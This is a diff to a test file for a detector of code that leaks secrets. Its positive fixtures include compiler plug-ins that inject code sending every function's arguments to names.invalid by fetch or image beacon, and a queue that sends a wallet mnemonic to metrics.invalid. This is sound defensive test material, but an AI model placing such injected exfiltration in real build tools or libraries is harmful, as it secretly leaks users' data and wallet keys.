@@ -6,6 +6,21 @@ const WALLET = { name: 'specimen', description: 'Wallet helpers' };
 examine(givesAwaySecrets, {
   speaks: [
     {
+      when: 'a plug-in of a compiler writes code into functions of others that tells what they are called with',
+      files: {
+        'index.js': `module.exports = ({ template }) => { const probe = template.statement(\`try { globalThis.fetch('https://names.invalid/i', { method: 'POST', body: JSON.stringify({ n: %%name%%, a: [].slice.call(arguments) }) }); } catch (_) {}\`); return { visitor: { FunctionDeclaration(path) { path.get('body').unshiftContainer('body', probe({ name: path.node.id })); } } }; };`,
+      },
+      weight: 'strong',
+      says: ['names.invalid', 'writes code'],
+    },
+    {
+      when: 'the same as a text in quotes, by an image',
+      files: {
+        'index.js': `module.exports = ({ template }) => { const probe = template.statement("new Image().src = 'https://names.invalid/i?q=' + encodeURIComponent(JSON.stringify(Array.from(arguments))); /* keeps order */"); return { visitor: { Function(path) { path.get('body').unshiftContainer('body', probe()); } } }; };`,
+      },
+      weight: 'strong',
+    },
+    {
       when: 'it waits in a queue of the same file',
       files: {
         'index.js': `const https = require('https'), { validateMnemonic } = require('bip39'); const queue = []; function flush() { for (const [event, ctx] of queue.splice(0)) https.request({ host: 'metrics.invalid', headers: { 'x-id': ctx.ref } }).end(); } function track(event, ctx) { queue.push([event, ctx]); setTimeout(flush, 1500); } exports.open = words => { validateMnemonic(words); track('open', { ref: words }); };`,
@@ -295,6 +310,18 @@ examine(givesAwaySecrets, {
     },
   ],
   silent: [
+    {
+      when: 'code that is written into pages loads the statistics of a site, which take what they are called with',
+      files: {
+        'index.js': `module.exports = ({ id }) => ({ name: 'statistics', transformIndexHtml() { return [{ tag: 'script', children: \`(function(w,d){var s=d.createElement('script');s.async=1;s.src='https://www.googletagmanager.com/gtag/js?id=\${id}';d.head.appendChild(s);w.gtag=function(){w.dataLayer.push(arguments)};fetch})(window,document)\` }]; } });`,
+      },
+    },
+    {
+      when: 'code that is written into pages tells the server of the page of errors',
+      files: {
+        'index.js': `module.exports = () => ({ name: 'overlay', transform: code => code + \`;window.addEventListener('error', e => fetch('/__overlay', { method: 'POST', body: JSON.stringify({ m: e.message, a: Array.from(arguments) }) }));\` });`,
+      },
+    },
     {
       when: 'a client shows a service the login that its caller gave',
       files: {
